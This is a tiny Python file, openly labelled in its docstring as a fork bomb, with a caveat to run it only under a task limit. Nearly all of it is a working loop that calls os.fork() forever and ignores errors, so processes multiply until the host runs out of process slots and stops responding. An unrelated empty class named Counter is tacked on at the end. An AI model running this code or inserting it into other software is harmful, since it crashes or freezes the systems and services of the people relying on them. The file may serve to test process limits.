"""A fork bomb: every process forks forever (only run where a task limit holds)."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass


class Counter:
    pass
